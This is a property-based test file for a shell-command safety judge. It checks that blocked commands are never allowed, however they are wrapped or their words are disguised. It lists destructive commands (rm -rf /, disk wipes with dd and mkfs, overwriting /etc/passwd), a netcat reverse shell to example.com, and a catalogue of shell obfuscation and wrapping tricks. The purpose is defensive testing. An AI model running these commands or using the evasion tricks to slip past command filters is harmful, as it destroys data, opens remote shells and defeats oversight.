import { describe, expect, it } from '@jest/globals';
import fc from 'fast-check';
import { parse } from 'unbash';
import { DECISIONS, type DecisionKind } from '../decision.ts';
import { blocked } from './corpus/dangerous.test-support.ts';
import { harmless } from './corpus/harmless.test-support.ts';
import { seenThrough } from './corpus/obfuscated.test-support.ts';
import { judgeShell } from './judge.ts';
import { rulesForTests } from './rules.test-support.ts';

const RULES = rulesForTests();
/** Where everything that can be allowed is allowed, only the judge itself is in the way. */
const PERMISSIVE = rulesForTests({ allowed: ['*'] });

const decisionOf = (command: string, rules = RULES): DecisionKind => judgeShell(command, rules).decision;

/** A word for any shell. */
const quote = (text: string): string => `'${text.replaceAll("'", `'\\''`)}'`;

/** A command and whether it is a simple one, which other commands take as their arguments. */
interface Wrapped {
  readonly text: string;
  readonly simple: boolean;
}

const simple = ({ text, simple: isSimple }: Wrapped): string => (isSimple ? text : `sh -c ${quote(text)}`);

const around = (before: string, after: string) => (command: Wrapped) => ({
  text: `${before}${command.text}${after}`,
  simple: false,
});

const prefixed = (prefix: string) => (command: Wrapped) => ({ text: `${prefix} ${simple(command)}`, simple: true });

const WRAPPERS: readonly ((command: Wrapped) => Wrapped)[] = [
  around('ls && ', ''),
  around('ls; ', '; pwd'),
  around('ls || ', ''),
  around('ls\n', '\n'),
  around('ls | ', ''),
  around('(', '\n)'),
  around('{ ', '\n}'),
  around('! ', ''),
  around('time ', ''),
  around('echo $(', '\n)'),
  around('echo "$(', '\n)"'),
  around('cat <(', '\n)'),
  around('echo hello > >(', '\n)'),
  around('x=$(', '\n)'),
  around('LANG=$(', '\n) ls'),
  around('if true; then\n', '\nfi'),
  around('if\n', '\nthen ls; fi'),
  around('for i in 1 2; do\n', '\ndone'),
  around('while true; do\n', '\ndone'),
  around('case a in *)\n', '\n;; esac'),
  around('f() {\n', '\n}; f'),
  around('coproc {\n', '\n}'),
  around('cat <<END_OF_TEXT\n$(', '\n)\nEND_OF_TEXT\n'),
  around('echo ${x:-$(', '\n)}'),
  around('  \t ', '  \t '),
  prefixed('env'),
  prefixed('env -i CI=1'),
  prefixed('timeout 5'),
  prefixed('timeout --signal=KILL 5s'),
  prefixed('nice -n 5'),
  prefixed('nohup'),
  prefixed('setsid'),
  prefixed('stdbuf -oL'),
  prefixed('command'),
  prefixed('exec'),
  prefixed('xargs -n 1'),
  prefixed('/usr/bin/env'),
  (command) => ({ text: `LANG=C CI=1 ${simple(command)}`, simple: false }),
  ({ text }) => ({ text: `sh -c ${quote(text)}`, simple: true }),
  ({ text }) => ({ text: `bash -lc ${quote(text)}`, simple: true }),
  ({ text }) => ({ text: `eval ${quote(text)}`, simple: true }),
  ({ text }) => ({ text: `sh <<'END_OF_TEXT'\n${text}\nEND_OF_TEXT\n`, simple: false }),
  (command) => ({ text: `find . -name x -exec ${simple(command)} \\;`, simple: false }),
  (command) => (/[`\\]|<</u.test(command.text) ? command : { text: `echo \`${command.text}\n\``, simple: false }),
  (command) => ({ text: `${simple(command)} &`, simple: false }),
];

/** One word, written in one of the ways in which shells let people write it. */
function disguise(word: string, way: number): string {
  if (way === 1) return quote(word);
  if (way === 2) return `"${word.replaceAll(/["\\$`]/gu, String.raw`\$&`)}"`;
  if (way === 3) return word.replaceAll(/[a-z]/gu, String.raw`\$&`);
  if (way === 4) return `${quote(word.slice(0, 1))}${quote(word.slice(1))}`;
  const hexadecimal = word.replaceAll(/[\s\S]/gu, (letter) => `\\x${letter.charCodeAt(0).toString(16)}`);
  return way === 5 ? `$'${hexadecimal}'` : quote(word).replaceAll(' ', "' '");
}

const DANGEROUS_WORDS: readonly (readonly string[])[] = [
  ['rm', '-rf', '/'],
  ['rm', '-r', '-f', '/work/other'],
  ['sudo', 'ls'],
  ['chmod', '-R', '777', '.'],
  ['mkfs.ext4', '/dev/sda'],
  ['dd', 'if=/dev/zero', 'of=/dev/sda'],
  ['kill', '-9', '1'],
  ['shutdown', '-h', 'now'],
  ['docker', 'run', '--privileged', 'alpine'],
  ['nc', '-e', '/bin/sh', 'example.com', '1'],
  ['tee', '/etc/passwd'],
];

const disguised = fc
  .tuple(
    fc.constantFrom(...DANGEROUS_WORDS),
    fc.array(fc.integer({ min: 1, max: 6 }), { minLength: 6, maxLength: 6 }),
    fc.constantFrom(' ', '  ', '\t', ' \\\n ', ' \t '),
  )
  .map(([words, ways, space]): Wrapped => {
    const text = words.map((word, index) => disguise(word, ways[index] ?? 1)).join(space);
    return { text, simple: true };
  });

const wrapped = (command: fc.Arbitrary<Wrapped>): fc.Arbitrary<string> =>
  fc
    .tuple(command, fc.array(fc.constantFrom(...WRAPPERS), { minLength: 1, maxLength: 4 }))
    .map(([inner, wrappers]) => wrappers.reduce((text, wrap) => wrap(text), inner).text);

const dangerous = fc
  .constantFrom(...[...blocked, ...seenThrough].map(([command]) => command))
  .map((text): Wrapped => ({ text, simple: false }));

describe('however it is wrapped', () => {
  it('what is blocked is never allowed', () => {
    fc.assert(
      fc.property(wrapped(dangerous), (command) => {
        expect(decisionOf(command, PERMISSIVE)).not.toBe('ALLOW');
      }),
      { numRuns: 400 },
    );
  });

  it('and however its words are written', () => {
    fc.assert(
      fc.property(wrapped(disguised), (command) => {
        expect(decisionOf(command, PERMISSIVE)).not.toBe('ALLOW');
      }),
      { numRuns: 400 },
    );
  });

  it('without a wrapper it is denied, however its words are written', () => {
    fc.assert(
      fc.property(disguised, ({ text }) => {
        expect({ text, decision: decisionOf(text, PERMISSIVE) }).toEqual({ text, decision: 'DENY' });
      }),
      { numRuns: 200 },
    );
  });
});

const strictness = (decision: DecisionKind): number => DECISIONS.indexOf(decision);

const lines = [...harmless, ...blocked, ...seenThrough].map(([command]) => command);

it('commands together are never allowed more than each of them', () => {
  fc.assert(
    fc.property(fc.constantFrom(...lines), fc.constantFrom(...lines), (one, other) => {
      const together = strictness(decisionOf(`${one}\n${other}`));
      expect(together).toBeLessThanOrEqual(Math.min(strictness(decisionOf(one)), strictness(decisionOf(other))));
    }),
    { numRuns: 200 },
  );
});

it('a block rule more never makes a decision less strict', () => {
  fc.assert(
    fc.property(
      fc.constantFrom(...lines),
      fc.constantFrom('git', 'ls', 'npm run', 'rm -rf', '*'),
      (command, pattern) => {
        const more = rulesForTests({ blocked: [pattern] });
        expect(strictness(decisionOf(command, more))).toBeLessThanOrEqual(strictness(decisionOf(command)));
      },
    ),
    { numRuns: 150 },
  );
});

const PIECES = `' " \` $( ) { } ( (( )) [[ ]] ; & && || | |& > >> < << <<< <( >( $ $x \${ } \${x:- $' $" \\ # ! ~ * ? [ ] = 1 if then fi for in do
  done case esac ;; while function f() coproc time rm -rf / ls cat echo git status sudo sh -c eval xargs env a.txt EOF <<EOF -- -n`;

const text = fc.oneof(
  fc.string({ unit: 'binary', maxLength: 60 }),
  fc.string({ unit: 'grapheme', maxLength: 60 }),
  fc
    .array(fc.tuple(fc.constantFrom(...PIECES.split(/\s+/u)), fc.constantFrom('', ' ', ' ', '\n', '\t')), {
      maxLength: 25,
    })
    .map((pieces) => pieces.flat().join('')),
  fc
    .tuple(fc.constantFrom(...lines), fc.nat(), fc.nat())
    .map(([line, from, length]) => line.slice(0, from % line.length) + line.slice((from % line.length) + (length % 4))),
);

describe('whatever the text is', () => {
  it('there is a verdict, and what cannot be parsed is not allowed', () => {
    fc.assert(
      fc.property(text, (command) => {
        const { decision, risk, reasons, rules } = judgeShell(command, PERMISSIVE);
        expect([reasons.length, rules.length]).not.toContain(0);
        if (parse(command).errors) expect([decision, risk]).not.toContain('ALLOW');
        if (decision !== 'ALLOW') expect(risk).toBe('RED');
      }),
      { numRuns: 1000 },
    );
  });

  it.each([
    ['long', 'ls '.repeat(6000)],
    ['nested in parentheses', `${'('.repeat(4000)}ls${')'.repeat(4000)}`],
    ['nested in substitutions', `${'echo $('.repeat(1500)}ls${')'.repeat(1500)}`],
    ['nested in backticks', '`\\'.repeat(5000)],
    ['nested in braces', `${'{ '.repeat(5000)}ls${'; }'.repeat(2000)}`],
    ['nested in parameters', `echo ${'${x:-'.repeat(2500)}`],
    ['nested in arithmetic', `echo $((${'('.repeat(7000)}`],
    ['full of here-documents', 'cat <<a '.repeat(2000)],
    ['full of wrappers', `${'env --strange '.repeat(1000)}ls`],
    ['full of commands', 'xargs -Z env -Z timeout -Z nice -Z;'.repeat(400)],
    ['full of shells', "sh -c '".repeat(2000)],
    ['full of evaluations', `${'eval '.repeat(3000)}ls`],
  ])('a text that is %s is not allowed', (_name, command) => {
    expect(decisionOf(command, PERMISSIVE)).not.toBe('ALLOW');
  });
});
